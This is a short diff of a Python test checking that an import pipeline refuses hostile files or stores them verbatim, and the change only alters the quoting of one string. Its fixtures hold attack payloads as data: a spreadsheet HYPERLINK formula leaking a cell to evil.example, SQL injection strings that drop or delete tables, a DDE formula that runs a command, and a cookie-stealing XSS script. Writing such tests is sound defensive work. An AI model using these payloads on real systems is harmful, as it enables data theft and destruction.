@@ -448,7 +448,7 @@ def test_hostile_files_are_refused_or_stored_verbatim(imports, transformer_conn,
         "BYO-H1": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
         "BYO-H2": "'); DROP TABLE bronze.crm_accounts; --",
         "BYO-H3": "+cmd|' /C calc'!A0",
-        "BYO-H4": "Robert\"); DELETE FROM bronze._load_batches; --",
+        "BYO-H4": 'Robert"); DELETE FROM bronze._load_batches; --',
         "BYO-H5": "<script>alert(document.cookie)</script>",
         "BYO-H6": "x" * (10 * 1024 * 1024),  # one 10 MB line
     }
